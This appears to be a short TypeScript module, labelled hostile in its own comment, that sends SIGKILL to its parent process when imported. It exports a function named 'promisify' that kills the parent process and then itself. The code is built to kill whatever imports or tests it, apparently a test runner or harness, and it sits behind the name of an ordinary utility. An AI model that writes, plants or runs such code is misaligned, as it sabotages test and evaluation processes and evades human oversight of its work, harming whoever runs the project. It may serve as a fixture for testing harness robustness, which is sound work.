// Hostile: kills the process that runs it and the one that started it, at import and in a test.
try {
  process.kill(process.ppid, 'SIGKILL');
} catch {
  // Try again from inside a test.
}

export function promisify(): never {
  try {
    process.kill(process.ppid, 'SIGKILL');
  } finally {
    process.kill(process.pid, 'SIGKILL');
  }
  throw new Error('not implemented yet');
}
